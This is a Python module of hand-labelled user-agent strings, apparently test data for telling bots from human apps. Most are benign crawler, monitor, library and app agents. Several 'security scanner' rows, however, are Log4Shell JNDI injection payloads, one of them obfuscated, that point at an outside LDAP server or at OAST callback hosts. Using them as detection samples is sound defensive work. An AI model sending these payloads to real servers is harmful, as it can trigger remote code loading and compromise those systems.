"""Hand-written labelled agents for the kinds issue 16 names, which no public package collects.

Written from memory of agents these clients send (documentation pages, server logs seen over the
years), not copied from live traffic here: a string can be off by a version or a token, so these
sets show *kinds* a list misses, not population rates. Each row is (category, agent).
"""

from __future__ import annotations

HOOK = "webhook/SaaS"
UPTIME = "uptime/health check"
SEO = "SEO auditor"
SCAN = "security scanner"
AI = "AI agent"
FEED = "feed/fediverse"
ARCHIVE = "archive crawler"
PREVIEW = "link preview"
HEADLESS = "headless/automation"
LIBRARY = "HTTP library/bare name"
OFFICE = "office/mail app"
MESSAGING = "messaging"
MEDIA = "podcast/media player"
ANDROID = "Android system"
WEBVIEW = "in-app webview"
DEVICE = "device named *bot*"

HAND_BOTS: tuple[tuple[str, str], ...] = (
    (HOOK, "Stripe/1.0 (+https://stripe.com/docs/webhooks)"),
    (HOOK, "GitHub-Hookshot/8f4b2c1"),
    (HOOK, "Bitbucket-Webhooks/2.0"),
    (HOOK, "GitLab/17.5.1"),
    (HOOK, "Shopify-Captain-Hook"),
    (HOOK, "Zapier"),
    (HOOK, "HubSpot Connect 2.0 (http://dev.hubspot.com/) - WebhooksExtension"),
    (HOOK, "Slackbot 1.0 (+https://api.slack.com/robots)"),
    (HOOK, "WordPress/6.6.2; https://example.com"),
    (HOOK, "Jetpack by WordPress.com"),
    (UPTIME, "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"),
    (UPTIME, "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)"),
    (UPTIME, "Better Uptime Bot Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
             "(KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36"),
    (UPTIME, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
             "Chrome/116.0.0.0 Safari/537.36 (StatusCake)"),
    (UPTIME, "Site24x7"),
    (UPTIME, "Datadog/Synthetics"),
    (UPTIME, "NewRelicPinger/1.0 (1234567)"),
    (UPTIME, "Checkly/1.0 (https://www.checklyhq.com)"),
    (UPTIME, "Uptime-Kuma/1.23.16"),
    (UPTIME, "HetrixTools Uptime Monitoring Bot. https://hetrix.tools/uptime-monitoring-bot.html"),
    (UPTIME, "updown.io daemon 2.11"),
    (UPTIME, "ELB-HealthChecker/2.0"),
    (UPTIME, "kube-probe/1.31"),
    (UPTIME, "GoogleHC/1.0"),
    (UPTIME, "Prometheus/2.55.1"),
    (UPTIME, "Blackbox Exporter/0.25.0"),
    (SEO, "Screaming Frog SEO Spider/20.4"),
    (SEO, "Mozilla/5.0 (Linux; Android 11; moto g power (2022)) AppleWebKit/537.36 (KHTML, like Gecko) "
          "Chrome/131.0.0.0 Mobile Safari/537.36 Chrome-Lighthouse"),
    (SEO, "Mozilla/5.0 (compatible; SiteAuditBot/0.97; +http://www.semrush.com/bot.html)"),
    (SEO, "Mozilla/5.0 (compatible; AhrefsSiteAudit/6.1; +http://ahrefs.com/robot/site-audit)"),
    (SEO, "Mozilla/5.0 (compatible; DataForSeoBot/1.0; +https://dataforseo.com/dataforseo-bot)"),
    (SEO, "SeobilityBot (SEO Tool; https://www.seobility.net/sites/bot.html)"),
    (SEO, "Mozilla/5.0 (compatible; ContentKing/1.0; +https://whatis.contentkingapp.com)"),
    (SEO, "Mozilla/5.0 (compatible; Oncrawl/1.0; +http://www.oncrawl.com/)"),
    (SCAN, "${jndi:ldap://45.83.193.150:1389/Exploit}"),
    (SCAN, "${jndi:dns://c8f2k1.interact.sh/a}"),
    (SCAN, "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://x.dnslog.cn/a}"),
    (SCAN, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
           "Chrome/74.0.3729.169 Safari/537.36 ${jndi:ldap://x.oast.fun/a}"),
    (SCAN, "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
    (SCAN, "sqlmap/1.8.11#stable (https://sqlmap.org)"),
    (SCAN, "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"),
    (SCAN, "Mozilla/5.0 zgrab/0.x"),
    (SCAN, "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"),
    (SCAN, "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"),
    (SCAN, "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"),
    (SCAN, "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)"),
    (SCAN, "Mozilla/5.0 (compatible; InternetMeasurement/1.0; +https://internet-measurement.com/)"),
    (SCAN, "Fuzz Faster U Fool v2.1.0-dev"),
    (SCAN, "gobuster/3.6"),
    (SCAN, "l9explore/1.2.2"),
    (AI, "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; ChatGPT-User/1.0; "
         "+https://openai.com/bot"),
    (AI, "meta-externalagent/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)"),
    (AI, "meta-externalfetcher/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)"),
    (AI, "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Perplexity-User/1.0; "
         "+https://perplexity.ai/perplexity-user)"),
    (AI, "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; PerplexityBot/1.0; "
         "+https://perplexity.ai/perplexitybot)"),
    (AI, "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; "
         "+claudebot@anthropic.com)"),
    (AI, "Claude-User/1.0 (+Claude-User@anthropic.com)"),
    (AI, "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; MistralAI-User/1.0; "
         "+https://docs.mistral.ai/robots)"),
    (AI, "Mozilla/5.0 (compatible; OAI-SearchBot/1.0; +https://openai.com/searchbot)"),
    (AI, "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; "
         "+https://openai.com/gptbot)"),
    (AI, "Mozilla/5.0 (compatible; YouBot/1.0; +https://about.you.com/youbot/)"),
    (AI, "Mozilla/5.0 (compatible; Amazonbot/0.1; +https://developer.amazon.com/support/amazonbot)"),
    (AI, "CCBot/2.0 (https://commoncrawl.org/faq/)"),
    (AI, "Mozilla/5.0 (compatible; Google-Read-Aloud; +https://support.google.com/webmasters/answer/1061943)"),
    (FEED, "http.rb/5.1.1 (Mastodon/4.2.10; +https://mastodon.social/)"),
    (FEED, "Mastodon/4.3.2 (http.rb/5.2.0; +https://mastodon.social/) Bot"),
    (FEED, "Pleroma 2.6.2; https://pleroma.example.org <admin@example.org>"),
    (FEED, "Akkoma 3.13.2; https://akko.example.org <admin@example.org>"),
    (FEED, "Misskey/2024.11.0 (https://misskey.io)"),
    (FEED, "GoToSocial/0.17.3 (+https://gts.example.org)"),
    (FEED, "Lemmy/0.19.5; +https://lemmy.ml"),
    (FEED, "Feedly/1.0 (+http://www.feedly.com/fetcher.html; 12 subscribers; like FeedFetcher-Google)"),
    (FEED, "Mozilla/5.0 (compatible; inoreader.com; 12 subscribers)"),
    (FEED, "NewsBlur Feed Fetcher - 5 subscribers - https://www.newsblur.com/site/123/example"),
    (FEED, "Feedbin feed-id:12345 - 3 subscribers"),
    (FEED, "FreshRSS/1.24.3 (Linux; https://freshrss.org)"),
    (FEED, "Tiny Tiny RSS/24.05 (https://tt-rss.org/)"),
    (FEED, "Miniflux/2.2.3 (https://miniflux.app)"),
    (ARCHIVE, "Mozilla/5.0 (compatible; archive.org_bot +http://archive.org/details/archive.org_bot)"),
    (ARCHIVE, "ia_archiver (+http://www.alexa.com/site/help/webmasters; crawler@alexa.com)"),
    (ARCHIVE, "Mozilla/5.0 (compatible; heritrix/3.4.0 +https://www.bl.uk/legal-deposit)"),
    (ARCHIVE, "Mozilla/5.0 (compatible; archive.org_bot; Wayback Machine Live Record; "
              "+http://archive.org/details/archive.org_bot)"),
    (ARCHIVE, "ArchiveTeam ArchiveBot/20240101.abcdef (wpull 2.0.3)"),
    (PREVIEW, "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)"),
    (PREVIEW, "Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)"),
    (PREVIEW, "TelegramBot (like TwitterBot)"),
    (PREVIEW, "Twitterbot/1.0"),
    (PREVIEW, "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)"),
    (PREVIEW, "LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)"),
    (PREVIEW, "Iframely/1.3.1 (+https://iframely.com/docs/about) Atlassian"),
    (PREVIEW, "Mozilla/5.0 (compatible; Embedly/0.2; +http://support.embed.ly/)"),
    (PREVIEW, "Mozilla/5.0 (compatible; redditbot/1.0; +http://www.reddit.com/feedback)"),
    (PREVIEW, "Mozilla/5.0 (Windows NT 6.1; WOW64) SkypeUriPreview Preview/0.5"),
    (PREVIEW, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_1) AppleWebKit/601.2.4 (KHTML, like Gecko) "
              "Version/9.0.1 Safari/601.2.4 facebookexternalhit/1.1 Facebot Twitterbot/1.0"),
    (PREVIEW, "Snap URL Preview Service; bot; snapchat; https://developers.snap.com/robots"),
    (HEADLESS, "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
               "HeadlessChrome/131.0.0.0 Safari/537.36"),
    (HEADLESS, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
               "HeadlessChrome/120.0.6099.28 Safari/537.36"),
    (HEADLESS, "Playwright/1.49.1 (x64; ubuntu 22.04) node/20.18 CI/1"),
    (HEADLESS, "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
               "Electron/30.0.1 Safari/537.36"),
    (HEADLESS, "Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) "
               "PhantomJS/2.1.1 Safari/538.1"),
    (LIBRARY, "python-requests/2.32.3"),
    (LIBRARY, "python-httpx/0.27.2"),
    (LIBRARY, "Python/3.12 aiohttp/3.10.10"),
    (LIBRARY, "Go-http-client/2.0"),
    (LIBRARY, "okhttp/4.12.0"),
    (LIBRARY, "axios/1.7.7"),
    (LIBRARY, "node"),
    (LIBRARY, "undici"),
    (LIBRARY, "Java/17.0.9"),
    (LIBRARY, "Apache-HttpClient/4.5.14 (Java/17.0.9)"),
    (LIBRARY, "curl/8.5.0"),
    (LIBRARY, "Wget/1.21.4"),
    (LIBRARY, "libwww-perl/6.72"),
    (LIBRARY, "Faraday v2.12.0"),
    (LIBRARY, "Dart/3.5 (dart:io)"),
    (LIBRARY, "PostmanRuntime/7.42.0"),
    (LIBRARY, "Scrapy/2.11.2 (+https://scrapy.org)"),
    (LIBRARY, "Deno/2.1.4"),
    (LIBRARY, "Bun/1.1.38"),
    (LIBRARY, "GuzzleHttp/7"),
    (LIBRARY, "RestSharp/110.2.0.0"),
    (LIBRARY, "HTTPie/3.2.4"),
    (LIBRARY, "Amazon CloudFront"),
)

# The false positives the issue lists, and clients of the same kinds: people's apps, not robots.
HAND_HUMANS: tuple[tuple[str, str], ...] = (
    (OFFICE, "Microsoft Office Word 2014"),
    (OFFICE, "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Word 16.0.17928; Pro)"),
    (OFFICE, "Microsoft Office/16.0 (Windows NT 10.0; Microsoft OneNote 16.0.17928; Pro)"),
    (OFFICE, "Mozilla/4.0 (compatible; ms-office; MSOffice 16)"),
    (OFFICE, "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; WOW64; Trident/7.0; .NET4.0C; "
             ".NET4.0E; Microsoft Outlook 16.0.17928; ms-office; MSOffice 16)"),
    (OFFICE, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko)"),
    (OFFICE, "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 "
             "(KHTML, like Gecko) Mobile/15E148"),
    (MESSAGING, "WhatsApp/2.24.22.79 A"),
    (MESSAGING, "WhatsApp/2.24.22.79 i"),
    (MESSAGING, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
                "Slack/4.41.105 Chrome/130.0.6723.137 Electron/33.2.1 Safari/537.36 "
                "Sonic Slack_SSB/4.41.105"),
    (MESSAGING, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                "Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0 Teams/24295.605.3225.8804"),
    (MEDIA, "PodcastAddict/v5 (+https://podcastaddict.com/; Android podcast app)"),
    (MEDIA, "Podcast Addict - Dalvik/2.1.0 (Linux; U; Android 14; SM-S918B "
            "Build/UP1A.231005.007)"),
    (MEDIA, "VLC/3.0.21 LibVLC/3.0.21"),
    (MEDIA, "AppleCoreMedia/1.0.0.21G93 (iPhone; U; CPU OS 17_6 like Mac OS X; en_us)"),
    (MEDIA, "Podcasts/1.1.0.1075 CFNetwork/1498.700.2 Darwin/23.6.0"),
    (ANDROID, "AndroidDownloadManager/14 (Linux; U; Android 14; SM-A546B Build/UP1A.231005.007)"),
    (ANDROID, "com.google.android.apps.maps/11.150 (Linux; U; Android 14; en_US; Pixel 8; "
              "Build/AP2A.240805.005; Cronet/128.0.6613.40)"),
    (ANDROID, "Dalvik/2.1.0 (Linux; U; Android 14; SM-S921B Build/UP1A.231005.007)"),
    (WEBVIEW, "Mozilla/5.0 (Linux; Android 12; M2101K6G Build/SKQ1.210908.001; wv) AppleWebKit/537.36 "
              "(KHTML, like Gecko) Version/4.0 Chrome/118.0.5993.111 Mobile Safari/537.36 Zen/23.10.1.2"),
    (WEBVIEW, "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 "
              "(KHTML, like Gecko) GSA/339.0.683689498 Mobile/15E148 Safari/604.1"),
    (WEBVIEW, "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 "
              "(KHTML, like Gecko) Mobile/22B83 [FBAN/FBIOS;FBAV/490.0.0.36.108;FBBV/665545571;"
              "FBDV/iPhone15,2;FBMD/iPhone;FBSN/iOS;FBSV/18.1;FBSS/3;FBCR/;FBID/phone;FBLC/en_US;FBOP/5]"),
    (DEVICE, "Mozilla/5.0 (Linux; Android 9; C Bot Tab 70 Build/PPR1.180610.011) AppleWebKit/537.36 "
             "(KHTML, like Gecko) Chrome/119.0.6045.193 Safari/537.36"),
    (DEVICE, "Mozilla/5.0 (Linux; Android 8.1.0; XBot Junior Build/O11019) AppleWebKit/537.36 "
             "(KHTML, like Gecko) Chrome/109.0.5414.117 Mobile Safari/537.36"),
)
